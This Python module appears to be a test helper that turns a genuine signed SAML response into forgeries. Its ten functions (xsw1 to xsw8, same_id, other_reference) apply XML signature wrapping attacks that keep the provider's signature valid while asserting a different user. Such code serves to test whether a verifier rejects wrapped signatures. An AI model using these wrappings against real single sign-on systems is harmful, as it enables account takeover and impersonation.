"""Forgeries made of a genuine response: each keeps the provider's signature and means mallory."""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

NS = {
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
}
Forgery = Callable[[etree._Element], etree._Element]


def forged(response: bytes, forgery: Forgery) -> bytes:
    return etree.tostring(forgery(etree.fromstring(response)))


def one(root: etree._Element, path: str) -> etree._Element:
    found = root.find(path, NS)
    assert found is not None
    return found


def _evil(element: etree._Element, *, is_signed: bool = False) -> etree._Element:
    """A copy that says mallory, without the signature unless it is wanted."""
    text = etree.tostring(element, with_tail=False).replace(b"alice@example.com", b"mallory@x.org")
    evil = etree.fromstring(text)
    evil.set("ID", "_evil")
    if not is_signed:
        for signature in evil.findall("ds:Signature", NS):
            evil.remove(signature)
    return evil


def _object(signature: etree._Element, content: etree._Element) -> None:
    etree.SubElement(signature, f"{{{NS['ds']}}}Object").append(content)


def xsw1(root: etree._Element) -> etree._Element:
    """An evil Response around the signed one, which hides in the signature."""
    evil, original = _evil(root), deepcopy(root)
    signature = one(original, "ds:Signature")
    original.remove(signature)
    _object(signature, original)
    evil.insert(1, signature)
    return evil


def xsw2(root: etree._Element) -> etree._Element:
    """An evil Response; the signature and the signed Response stand beside each other in it."""
    evil, original = _evil(root), deepcopy(root)
    signature = one(original, "ds:Signature")
    original.remove(signature)
    evil.insert(1, signature)
    evil.insert(1, original)
    return evil


def xsw3(root: etree._Element) -> etree._Element:
    """An evil assertion before the signed one."""
    original = one(root, "saml:Assertion")
    original.addprevious(_evil(original))
    return root


def xsw4(root: etree._Element) -> etree._Element:
    """An evil assertion around the signed one."""
    original = one(root, "saml:Assertion")
    evil = _evil(original)
    root.replace(original, evil)
    evil.append(original)
    return root


def xsw5(root: etree._Element) -> etree._Element:
    """The evil assertion has the signature; the signed one, without it, is appended."""
    original = one(root, "saml:Assertion")
    evil = _evil(original, is_signed=True)
    original.remove(one(original, "ds:Signature"))
    root.replace(original, evil)
    root.append(original)
    return root


def xsw6(root: etree._Element) -> etree._Element:
    """As 5, but the signed assertion hides in the signature."""
    original = one(root, "saml:Assertion")
    evil = _evil(original, is_signed=True)
    original.remove(one(original, "ds:Signature"))
    root.replace(original, evil)
    one(evil, "ds:Signature").append(original)
    return root


def xsw7(root: etree._Element) -> etree._Element:
    """Extensions hold an evil assertion that has the signed one's ID."""
    original = one(root, "saml:Assertion")
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    evil = _evil(original)
    evil.set("ID", original.get("ID", ""))
    extensions.append(evil)
    original.addprevious(extensions)
    return root


def xsw8(root: etree._Element) -> etree._Element:
    """The evil assertion has the signature, whose Object holds the signed one."""
    original = one(root, "saml:Assertion")
    evil = _evil(original, is_signed=True)
    original.remove(one(original, "ds:Signature"))
    root.replace(original, evil)
    _object(one(evil, "ds:Signature"), original)
    return root


def same_id(root: etree._Element) -> etree._Element:
    """The evil assertion has the signature and the signed one's ID; that one lies beside it."""
    original = one(root, "saml:Assertion")
    evil = _evil(original, is_signed=True)
    evil.set("ID", original.get("ID", ""))
    root.replace(original, evil)
    advice = etree.SubElement(evil, f"{{{NS['saml']}}}Advice")
    advice.append(original)
    return root


def other_reference(root: etree._Element) -> etree._Element:
    """The evil assertion's signature is about the harmless Status, which is what was signed."""
    original = one(root, "saml:Assertion")
    evil = _evil(original, is_signed=True)
    root.replace(original, evil)
    original.remove(one(original, "ds:Signature"))
    one(root, "samlp:Status").append(original)
    return root


WRAPPINGS = {
    each.__name__: each
    for each in (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8, same_id, other_reference)
}
